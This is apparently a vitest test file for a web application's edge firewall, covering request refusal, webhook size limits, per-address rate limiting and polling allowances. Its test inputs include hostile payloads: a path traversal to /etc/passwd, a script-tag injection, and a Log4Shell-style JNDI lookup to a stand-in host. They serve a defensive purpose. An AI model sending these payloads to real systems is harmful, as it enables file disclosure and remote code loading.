import { request } from "node:http";
import { text } from "node:stream/consumers";
import { expect, test } from "vitest";
import { makeFirewall, type FirewallRequest } from "#infra/local/edge/firewall.ts";
import { sendContactMessage } from "#shared/contract/api.ts";
import { sharedRate } from "#shared/contract/endpoint.ts";
import { functionEndpoints } from "#shared/contract/endpoints.ts";
import { errorBodySchema } from "#shared/contract/error-body.ts";
import { local } from "#test/support/local-environment/worker-environment.ts";
import { enabledFixtures } from "#test/support/feature-flags/feature-fixtures.ts";

/** Sends the path unchanged; `fetch` would normalize it. */
const send = (method: string, path: string, headers: Record<string, string> = {}) =>
  new Promise<{ readonly status: number | undefined; readonly body: string }>((resolve, reject) => {
    const sent = request({ port: local.port, method, path, headers }, (response) => {
      text(response).then((body) => resolve({ status: response.statusCode, body }), reject);
    });
    sent.on("error", reject);
    sent.end();
  });

test.each([
  ["GET", "/..%2f..%2fetc/passwd", {}],
  ["GET", "/web-inf/web.xml", {}],
  ["GET", "/error.log", {}],
  ["GET", "/%3Cscript%3Ealert(1)%3C/script%3E", {}],
  ["POST", "/api/contact", { "x-form-signals": "${jndi:ldap://x.example/a}" }],
  ["GET", `/${"a".repeat(1100)}`, {}],
] as const)(
  "[OPS-01] the firewall refuses %s %.30s with %j in the standard error body",
  async (method, path, headers) => {
    const { status, body } = await send(method, path, headers);
    expect([status, errorBodySchema.parse(JSON.parse(body)).code]).toEqual([403, "request-refused"]);
  },
);

test.each([
  "/?q=%3Cscript%3E",
  "/contact?customerName=../../&x=169.254.169.254",
  `/?utm=${"a".repeat(2100)}`,
])("[OPS-01] the firewall allows a page with a query such as %.40s", async (path) => {
  expect((await send("GET", path)).status).toBe(200);
});

const webhookBytesMax = 256 * 1024;

/** The webhook endpoints. The next test runs for the first of them, because all have the same limits. */
const webhooks = functionEndpoints.filter(
  ({ forwardsAllHeaders, maxBodyBytes }) => forwardsAllHeaders && maxBodyBytes === webhookBytesMax,
);

test.each(webhooks.slice(0, 1))(
  "[OPS-01] the firewall limits a webhook's size and rate, but not its content or path",
  async ({ path }) => {
    const post = async (bytes: number, text = "") =>
      (
        await fetch(`${local.origin}${path}`, {
          method: "POST",
          headers: { "x-note": "${jndi:ldap://x.example/a}" },
          body: text + "x".repeat(bytes),
        })
      ).status;
    expect([await post(0, "<script>"), await post(webhookBytesMax), await post(webhookBytesMax + 1)]).toEqual(
      [401, 401, 413],
    );
  },
);

/** The number of simultaneous requests that the firewall allows. */
const admittedOf = async (count: number, path: string, address?: string) => {
  const headers: Record<string, string> =
    address === undefined ? {} : { "CloudFront-Viewer-Address": `${address}:4711` };
  const statuses = await Promise.all(
    Array.from({ length: count }, async () => (await send("GET", path, headers)).status),
  );
  return statuses.filter((status) => status !== 429).length;
};

test("[OPS-01] [CONT-03] an address above an endpoint's rate gets 429 with Retry-After, and others do not", async () => {
  const { path, ratePerAddress } = sendContactMessage;
  expect(await admittedOf(ratePerAddress.requests + 5, path, "192.0.2.1")).toBe(ratePerAddress.requests);
  expect(await admittedOf(1, path, "192.0.2.2")).toBe(1);
  for (const other of functionEndpoints.filter((row) => row.path !== path).slice(0, 1))
    expect(await admittedOf(1, other.path, "192.0.2.1")).toBe(1);
  const refused = await fetch(`${local.origin}${path}`, {
    headers: { "CloudFront-Viewer-Address": "192.0.2.1:4712" },
  });
  expect([refused.status, refused.headers.get("retry-after")]).toEqual([
    429,
    String(ratePerAddress.windowSeconds),
  ]);
  expect(errorBodySchema.parse(await refused.json()).code).toBe("too-many-requests");
});

test("[OPS-03] exempts requests from this machine from the rate limit", async () => {
  expect(await admittedOf(20, sendContactMessage.path)).toBe(20);
});

const plain: FirewallRequest = {
  address: "192.0.2.1",
  method: "GET",
  path: "/",
  query: "",
  headers: { "user-agent": "Mozilla/5.0" },
  body: Buffer.from(""),
};

test("[OPS-01] each endpoint with a rate of its own has its own limit, and all other paths share one", () => {
  const firewall = makeFirewall(() => 0);
  const count = (path: string) => {
    let admitted = 0;
    while (firewall({ ...plain, path }) === undefined) admitted += 1;
    return admitted;
  };
  const counted = functionEndpoints.filter(({ ratePerAddress }) => ratePerAddress !== sharedRate);
  expect(counted.map(({ path }) => count(path))).toEqual(
    counted.map(({ ratePerAddress }) => ratePerAddress.requests),
  );
  expect([count("/api/nothing"), count("/webhooks/nothing")]).toEqual([60, 0]);
});

test("[PAY-03] [VOICE-03] allows five pages behind one address to poll a payment or a call", () => {
  const firewall = makeFirewall(() => 0);
  const polled = enabledFixtures.flatMap(({ polls = [] }) => polls);
  const refusedOf = (path: string, count: number) =>
    Array.from({ length: count }, () => firewall({ ...plain, path })).filter((result) => result !== undefined)
      .length;
  for (const { path, requestsIn5Minutes } of polled)
    expect(refusedOf(path, 5 * requestsIn5Minutes), path).toBe(0);
});

test("[PAY-03] allows a provider to send hours of webhooks at once", () => {
  const firewall = makeFirewall(() => 0);
  const webhooks = functionEndpoints.filter(({ forwardsAllHeaders }) => forwardsAllHeaders);
  const refused = webhooks.flatMap(({ path }) =>
    Array.from({ length: 15_000 }, () => firewall({ ...plain, path })).filter(
      (result) => result !== undefined,
    ),
  );
  expect(refused).toEqual([]);
});
